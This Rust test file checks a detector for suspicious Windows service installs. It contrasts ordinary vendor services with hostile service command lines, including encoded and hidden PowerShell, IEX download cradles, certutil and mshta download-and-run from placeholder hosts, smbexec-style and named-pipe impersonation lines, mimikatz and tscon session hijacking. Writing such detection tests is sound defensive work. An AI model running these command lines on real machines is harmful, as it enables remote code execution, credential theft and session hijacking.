//! Ordinary and hostile services of Windows, as installs tell them.

use super::Options;
use super::cases::executable;
use super::tests::{detector, event};
use crate::model::event::{Action, Mechanism, ServiceEvent};
use crate::model::finding::{Finding, Severity};
use crate::model::service::{Manager, Setting};

/// What is told of an install.
fn install(name: &str, image: &str, kind: &str) -> Vec<Finding> {
    let mut event = event(Action::Created, Manager::Scm, name);
    event.mechanism = Mechanism::ServiceControlManager;
    event.executables.push(executable(Manager::Scm, &["ImagePath".to_owned(), image.to_owned()]));
    event.definition.push(Setting {
        section: String::new(),
        name: "Type".to_owned(),
        values: vec![kind.to_owned()],
    });
    detector(Options::default()).judge(&event)
}

fn names(findings: &[Finding]) -> Vec<&'static str> {
    findings.iter().map(|finding| finding.analytic).collect()
}

const SERVICE: &str = "user mode service";
const DRIVER: &str = "kernel mode driver";

#[test]
fn ordinary_installs_are_quiet() {
    for (name, image, kind) in [
        ("gupdate", r#""C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc"#, SERVICE),
        ("gupdatem", r#""C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /medsvc"#, SERVICE),
        (
            "edgeupdate",
            r#""C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /svc"#,
            SERVICE,
        ),
        (
            "MozillaMaintenance",
            r#""C:\Program Files (x86)\Mozilla Maintenance Service\maintenanceservice.exe""#,
            SERVICE,
        ),
        ("VMTools", r#""C:\Program Files\VMware\VMware Tools\vmtoolsd.exe""#, SERVICE),
        ("vmci", r"\SystemRoot\System32\drivers\vmci.sys", DRIVER),
        ("npf", r"system32\drivers\npf.sys", DRIVER),
        ("npcap", r"\SystemRoot\system32\DRIVERS\npcap.sys", DRIVER),
        ("Sysmon", r"C:\Windows\Sysmon.exe", SERVICE),
        ("SysmonDrv", "SysmonDrv.sys", DRIVER),
        (
            "MpKsl1a2b3c4d",
            r"\??\C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{4F2E}\MpKslDrv.sys",
            DRIVER,
        ),
        ("PROCMON24", r"\??\C:\Windows\system32\Drivers\PROCMON24.SYS", DRIVER),
        ("WdNisSvc", r#""C:\ProgramData\Microsoft\Windows Defender\platform\4.18.2-0\NisSrv.exe""#, SERVICE),
        ("WinDefend", r#""C:\Program Files\Windows Defender\MsMpEng.exe""#, SERVICE),
        (
            "winlogbeat",
            r#""C:\Program Files\winlogbeat\winlogbeat.exe" -c "C:\ProgramData\winlogbeat\winlogbeat.yml""#,
            SERVICE,
        ),
        (
            "nxlog",
            r#""C:\Program Files\nxlog\nxlog.exe" -c "C:\Program Files\nxlog\conf\nxlog.conf""#,
            SERVICE,
        ),
        ("OneSyncSvc_5d1a2", r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup", SERVICE),
        ("CDPUserSvc_5d1a2", r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup", SERVICE),
        ("msiserver", r"C:\Windows\system32\msiexec.exe /V", SERVICE),
        (
            "FontCache3.0.0.0",
            r"C:\Windows\Microsoft.NET\Framework64\v3.0\WPF\PresentationFontCache.exe",
            SERVICE,
        ),
        (
            "clr_optimization_v4.0.30319_64",
            r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\mscorsvw.exe",
            SERVICE,
        ),
        (
            "MSSQLSERVER",
            r#""C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER"#,
            SERVICE,
        ),
        ("RdAgent", r"C:\WindowsAzure\GuestAgent_2.7.1\WaAppAgent.exe", SERVICE),
        ("AmazonSSMAgent", r#""C:\Program Files\Amazon\SSM\amazon-ssm-agent.exe""#, SERVICE),
        ("ssh-agent", r"C:\Windows\System32\OpenSSH\ssh-agent.exe", SERVICE),
        ("sshd", r"C:\Windows\System32\OpenSSH\sshd.exe", SERVICE),
        ("Tomcat9", r#""C:\tomcat9\bin\Tomcat9.exe" //RS//Tomcat9"#, SERVICE),
        ("jenkins", r#""C:\ProgramData\Jenkins\jenkins.exe""#, SERVICE),
        ("uhssvc", r#""C:\Program Files\Microsoft Update Health Tools\uhssvc.exe""#, SERVICE),
        (
            "usbser",
            r"\SystemRoot\System32\DriverStore\FileRepository\usbser.inf_amd64_1a2b\usbser.sys",
            DRIVER,
        ),
        (
            "NvContainerLocalSystem",
            r#""C:\Program Files\NVIDIA Corporation\NvContainer\nvcontainer.exe" -s NvContainerLocalSystem"#,
            SERVICE,
        ),
        ("TrustedInstaller", r"C:\Windows\servicing\TrustedInstaller.exe", SERVICE),
    ] {
        let findings = install(name, image, kind);
        assert!(findings.is_empty(), "{name}: {findings:#?}");
    }
}

#[test]
fn unusual_but_honest_installs_are_not_told_as_high() {
    for (name, image, kind) in [
        ("PSEXESVC", r"C:\Windows\PSEXESVC.exe", SERVICE),
        ("PAExec-1234-ADMIN", r"C:\Windows\PAExec-1234-ADMIN.exe -service", SERVICE),
        ("cpuz143", r"\??\C:\Users\user\AppData\Local\Temp\cpuz143\cpuz143_x64.sys", DRIVER),
        ("WinRing0_1_2_0", r"\??\C:\Program Files\Monitor\WinRing0x64.sys", DRIVER),
        ("PROCEXP152", r"\??\C:\Windows\system32\Drivers\PROCEXP152.SYS", DRIVER),
        ("VBoxSup", r"\SystemRoot\system32\DRIVERS\VBoxSup.sys", DRIVER),
        (
            "GoogleUpdaterInternal",
            r#""C:\Users\user\AppData\Local\Google\Update\GoogleUpdate.exe" /svc"#,
            SERVICE,
        ),
        ("script", r"cmd.exe /c D:\jobs\start.cmd", SERVICE),
    ] {
        let findings = install(name, image, kind);
        assert!(!findings.is_empty(), "{name}");
        for finding in findings {
            assert!(finding.severity < Severity::High, "{name}: {finding:#?}");
        }
    }
}

#[test]
fn hostile_installs_are_told() {
    for (name, image, expected) in [
        ("kXwPqRtZ", r"%SYSTEMROOT%\bKdTrWqN.exe", "remote-execution-tool"),
        (
            "BTOBTO",
            r"%COMSPEC% /Q /c echo dir ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat",
            "remote-execution-tool",
        ),
        ("1a2b3c4", r"\\10.1.2.3\ADMIN$\1a2b3c4.exe", "execution-from-unusual-windows-path"),
        (
            "x",
            r"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=",
            "encoded-command",
        ),
        (
            "x",
            r#"powershell.exe -nop -w hidden -noni -c "if([IntPtr]::Size -eq 4){$b='powershell.exe'};IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s))).ReadToEnd()""#,
            "encoded-command",
        ),
        (
            "x",
            r#"powershell -c "IEX (New-Object Net.Webclient).DownloadString('http://127.0.0.1:28017/')""#,
            "download-and-run",
        ),
        ("x", r"cmd.exe /c echo rhlkgn > \\.\pipe\rhlkgn", "pipe-impersonation"),
        ("x", r"%COMSPEC% /c echo 4sgryt3436 > \\.\pipe\5erg53", "pipe-impersonation"),
        ("x", r"rundll32.exe C:\Users\a\AppData\Local\Temp\x.dll,a /p:kqwert", "pipe-impersonation"),
        (
            "x",
            r"C:\Windows\system32\cmd.exe /c certutil -urlcache -f http://a/b.exe C:\b.exe & C:\b.exe",
            "download-and-run",
        ),
        ("x", r"mshta.exe http://a/b.hta", "download-and-run"),
        (
            "x",
            r"C:\Windows\System32\rundll32.exe C:\Users\Public\x.dll,Start",
            "execution-from-unusual-windows-path",
        ),
        ("KrbSCM", r"C:\Users\a\k.exe scm", "remote-execution-tool"),
        ("mimikatzsvc", r"C:\Tools\mimikatz.exe rpc::server service::me exit", "remote-execution-tool"),
        ("sesshijack", r"cmd.exe /k tscon 2 /dest:rdp-tcp#14", "interpreter-one-liner"),
        ("Sliver", r"C:\Windows\Temp\aBcDeFgHiJ.exe", "remote-execution-tool"),
        ("svchost", r"C:\ProgramData\svchost.exe", "look-alike-name"),
        ("WinDefendr", r"C:\ProgramData\a\b.exe", "look-alike-name"),
    ] {
        let findings = install(name, image, SERVICE);
        assert!(names(&findings).contains(&expected), "{name} {image}: {:?}", names(&findings));
    }
}

#[test]
fn start_types_that_change_all_day_are_quiet() {
    let start = |name: &str, action: Action, before: &str, after: &str| -> ServiceEvent {
        let mut event = event(action, Manager::Scm, name);
        event.mechanism = Mechanism::ServiceControlManager;
        event.changes.push(crate::model::change::Change {
            section: String::new(),
            name: "Start".to_owned(),
            before: vec![before.to_owned()],
            after: vec![after.to_owned()],
        });
        event
    };
    for event in [
        start("BITS", Action::Modified, "auto start", "demand start"),
        start("BITS", Action::Enabled, "demand start", "auto start"),
        start("TrustedInstaller", Action::Modified, "auto start", "demand start"),
        start("wuauserv", Action::Modified, "auto start", "demand start"),
        start("VSS", Action::Modified, "auto start", "demand start"),
        event(Action::Stopped, Manager::Scm, "VSS"),
        event(Action::Stopped, Manager::Scm, "swprv"),
        event(Action::Started, Manager::Scm, "WinDefend"),
        event(Action::Stopped, Manager::Scm, "Software Protection"),
    ] {
        let findings = detector(Options::default()).judge(&event);
        assert!(findings.is_empty(), "{}: {findings:#?}", event.service.name);
    }
}

#[test]
fn paths_in_quotes_keep_their_blanks() {
    for (image, expected) in [
        (r#"cmd.exe /c "C:\Program Files\Acme\start.bat""#, false),
        (r#"powershell.exe -Command "& 'C:\Program Files\Acme\start.ps1'""#, false),
        (r#"cmd.exe /c "C:\Users\Public\My Files\start.bat""#, true),
        (r#"cmd.exe /c "C:\Windows\System32\cmd.exe /c C:\Users\Public\start.bat""#, true),
    ] {
        let findings = install("Acme", image, SERVICE);
        let found = names(&findings).contains(&"execution-from-unusual-windows-path");
        assert_eq!(found, expected, "{image}");
    }
}
